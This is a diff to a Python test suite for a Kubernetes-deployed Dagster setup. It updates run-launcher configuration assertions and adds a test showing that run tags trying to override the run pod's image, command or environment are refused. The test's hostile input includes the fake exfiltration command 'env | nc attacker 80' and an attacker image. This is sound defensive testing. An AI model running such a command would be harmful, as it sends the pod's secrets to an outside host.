@@ -42,11 +42,14 @@ def test_values_configure_what_the_design_asks_for():
     assert deployment["codeServerArgs"] == ["-m", "cto_dagster.definitions"]
     assert "dagsterApiGrpcArgs" not in deployment
     assert {"name": "CTO_DAGSTER_KIND", "value": "kubernetes"} in deployment["env"]
-    assert values["runLauncher"]["type"] == "K8sRunLauncher"
+    launcher = values["runLauncher"]["config"]["customRunLauncher"]
+    assert (launcher["module"], launcher["class"]) == ("dagster_k8s", "K8sRunLauncher")
+    assert {"CTO_DAGSTER_KIND=kubernetes"} <= set(launcher["config"]["env_vars"])
     assert values["dagsterDaemon"]["runCoordinator"]["type"] == "QueuedRunCoordinator"
     assert values["dagsterDaemon"]["runMonitoring"]["enabled"] is True
     assert values["concurrency"]["pools"]["defaultLimit"] > 0
     assert {"name": "cto-dagster-git"} in deployment["envSecrets"]
+    assert launcher["config"]["env_secrets"] == ["cto-dagster-git"]
     # issue 14's defects 8: private registry, lasting step logs, fresh images, no password here
     assert values["imagePullSecrets"] == [{"name": "ghcr-pull"}]
     assert values["computeLogManager"]["type"] != "NoOpComputeLogManager"
@@ -54,9 +57,7 @@ def test_values_configure_what_the_design_asks_for():
     assert "postgresqlPassword" not in values["postgresql"]
     assert values["generatePostgresqlPasswordSecret"] is False
     # defect 5: runs and integration pods are not labelled as task pods
-    assert "project-play" not in (
-        values["runLauncher"]["config"]["k8sRunLauncher"].get("labels") or {}
-    )
+    assert "project-play" not in (launcher["config"].get("labels") or {})
 
 
 def test_the_image_build_context_and_layers_stay_small():
@@ -403,6 +404,55 @@ def test_a_run_pod_plans_the_commit_its_run_was_created_from(monkeypatch, tmp_pa
         snapshot = instance.get_job_snapshot(instance.get_run_by_id(run.run_id).job_snapshot_id)
     ops = {op.name: op.tags for op in snapshot.node_defs_snapshot.op_def_snaps}
     assert "shop__task_007" not in ops and ops["shop__task_001"]["cto/tasks_commit"] == planned
+
+
+def test_a_run_tag_cannot_change_the_run_pod(monkeypatch, tmp_path):
+    """The run pod holds the git token and the database password: a run created with a
+    `dagster-k8s/config` tag (in the launchpad, over GraphQL) naming its command, image or
+    environment is refused at launch by dagster-k8s's allowlist, and no Job is created; the
+    same run without the tag launches."""
+    from cto_dagster.code_server import new_log_file
+    from cto_dagster.launch import code_location, create_run
+    from tests.k8s_api import KubernetesApi, run_launcher_config
+
+    write_project(tmp_path, monkeypatch)
+    home = tmp_path / "home"
+    home.mkdir()
+    monkeypatch.setenv("DAGSTER_HOME", str(home))
+    monkeypatch.setenv("DAGSTER_CURRENT_IMAGE", IMAGE)
+    hostile = {
+        "container_config": {
+            "image": "attacker/image:latest",
+            "command": ["sh", "-c", "env | nc attacker 80"],
+            "env": [{"name": "CTO_DAGSTER_K8S_EXECUTOR", "value": '{"job_image": "x"}'}],
+        }
+    }
+    values = yaml.safe_load(VALUES.read_text())
+    with KubernetesApi() as api:
+        launcher = run_launcher_config(values, api.kubeconfig(tmp_path / "kubeconfig"))
+        (home / "dagster.yaml").write_text(yaml.safe_dump({"run_launcher": launcher}))
+        with dg.DagsterInstance.get() as instance:
+            with code_location(instance, new_log_file(home)) as workspace:
+                for field, value in hostile["container_config"].items():
+                    tag = json.dumps({"container_config": {field: value}})
+                    run = create_run(
+                        instance, workspace, "play_project", {}, {"dagster-k8s/config": tag}
+                    )
+                    with pytest.raises(Exception, match="violated the allowed list"):
+                        instance.launch_run(run.run_id, workspace)
+                assert api.jobs == [], "a Job was created for a run with a hostile tag"
+                plain = create_run(instance, workspace, "play_project", {})
+                instance.launch_run(plain.run_id, workspace)
+        assert len(api.jobs) == 1, "the run without the tag did not launch"
+        pod = api.jobs[0]["spec"]["template"]["spec"]
+    container = pod["containers"][0]
+    assert container["image"] == IMAGE
+    env = {e["name"]: e.get("value") for e in container.get("env") or []}
+    assert env["CTO_DAGSTER_KIND"] == "kubernetes" and "CTO_DAGSTER_K8S_EXECUTOR" not in env
+    assert pod["securityContext"]["runAsUser"] == 1000
+    assert {"name": "projects", "mountPath": "/etc/cto-dagster", "readOnly": True} in container[
+        "volumeMounts"
+    ]
 
 
 @contextmanager
